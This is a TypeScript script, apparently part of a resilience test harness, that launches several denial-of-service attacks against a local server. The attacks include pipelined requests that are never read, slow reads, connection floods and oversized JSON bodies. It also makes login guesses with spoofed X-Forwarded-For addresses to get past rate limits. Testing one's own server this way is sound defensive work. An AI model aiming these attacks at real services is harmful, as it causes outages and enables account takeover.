// A process that attacks a server on this machine until it is ended: `node attackers.ts <port> <token> <attack> …`.
import { connect, type Socket } from 'node:net';
import { setTimeout as pause } from 'node:timers/promises';

const CONNECTIONS = 1_000;
/** Connections that are opened at once. */
const STEP = 50;
const AT_MOST_MS = 5 * 60_000;

const [port = '', token = '', ...names] = process.argv.slice(2);
const bearer = `Authorization: Bearer ${token}`;
const head = (line: string, ...fields: string[]) => [line, 'Host: a', ...fields, '', ''].join('\r\n');
const get = (path: string, ...fields: string[]) => head(`GET ${path} HTTP/1.1`, ...fields);
const post = (path: string, body: string, ...fields: string[]) =>
  head(`POST ${path} HTTP/1.1`, 'Content-Type: application/json', `Content-Length: ${body.length}`, ...fields) + body;

function open(onClose: () => void = () => undefined): Socket {
  const socket = connect(Number(port), '127.0.0.1');
  socket.on('error', () => undefined);
  socket.on('close', onClose);
  return socket;
}

/** Keeps this many connections, and calls `attack` with each one that is opened. */
async function crowd(count: number, attack: (socket: Socket) => void): Promise<void> {
  const again = () => setTimeout(one, 250);
  const one = () => {
    const socket = open(again);
    socket.once('connect', () => attack(socket));
  };
  for (let opened = 0; opened < count; opened++) {
    one();
    if (opened % STEP === 0) await pause(10);
  }
}

/** Sends requests ahead, and never reads an answer. */
const neverReads = (request: string, ahead: number) => (socket: Socket) => {
  socket.pause();
  socket.write(request.repeat(ahead));
};

/** Sends one request after the other, each after an answer. */
const inTurn = (request: () => string) => (socket: Socket) => {
  socket.on('data', () => socket.write(request()));
  socket.write(request());
};

/** Takes a part of an answer now and then. */
function readsSlowly(socket: Socket): void {
  socket.write(get('/api/todo', bearer));
  const timer = setInterval(() => {
    socket.resume();
    setTimeout(() => socket.pause(), 2);
  }, 500);
  socket.once('close', () => clearInterval(timer));
}

const BUNDLE = get('/api/docs/swagger-ui-bundle.js');
const CROWDED = JSON.stringify(Object.fromEntries(Array.from({ length: 12_000 }, (_, index) => [`k${index}`, 1])));
const GUESS = JSON.stringify({ email: 'victim@mail.com', password: 'a wrong guess' });

let address = 0;
const login = () => post('/api/login', GUESS, `X-Forwarded-For: 198.51.100.${address++ % 100}`);

const attacks: Record<string, () => Promise<void>> = {
  'files asked for ahead, then a reset': () =>
    crowd(4, (socket) => {
      socket.write(BUNDLE.repeat(300));
      setTimeout(() => socket.resetAndDestroy(), 200);
    }),
  'pages asked for ahead, never read': () => crowd(CONNECTIONS, neverReads(get('/api/todo?limit=200', bearer), 36)),
  'files asked for ahead, never read': () => crowd(CONNECTIONS, neverReads(BUNDLE + get('/api/docs/openapi.json'), 18)),
  'long lists, read slowly': () => crowd(CONNECTIONS, readsSlowly),
  'connections without end': () => crowd(3 * CONNECTIONS, () => undefined),
  'bodies of 12,000 properties': () =>
    crowd(
      20,
      inTurn(() => post('/api/login', CROWDED)),
    ),
  'guesses from 100 addresses': () => crowd(100, inTurn(login)),
};

setTimeout(() => process.exit(0), AT_MOST_MS);
process.on('disconnect', () => process.exit(0));
if (names.length === 0) process.send?.(Object.keys(attacks));
for (const name of names) await attacks[name]?.();
